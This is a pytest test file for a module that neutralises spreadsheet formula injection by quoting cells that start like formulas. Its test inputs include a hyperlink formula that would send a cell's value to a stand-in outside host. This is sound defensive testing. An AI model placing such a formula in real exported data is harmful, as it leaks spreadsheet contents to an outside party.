"""The formula rule: a cell a spreadsheet would run is written as the text it is."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from homestretch.lib.spreadsheet_safety import is_formula_like, neutralise_cell, neutralise_row


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x/?"&A1)', "+1 555 0100", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1", "=", "-"])
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert is_formula_like(text)
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ana Lima", "a=b", "", " =1", "-12.50", "+3", "1e5", "-.5"])
def test_other_text_and_plain_numbers_pass_unchanged(text):
    assert neutralise_cell(text) == text


def test_numbers_dates_and_none_are_not_text():
    assert neutralise_row([None, -3, Decimal("-1.5"), -0.5, True, date(2026, 1, 2), "=1"]) == [
        None, -3, Decimal("-1.5"), -0.5, True, date(2026, 1, 2), "'=1"]
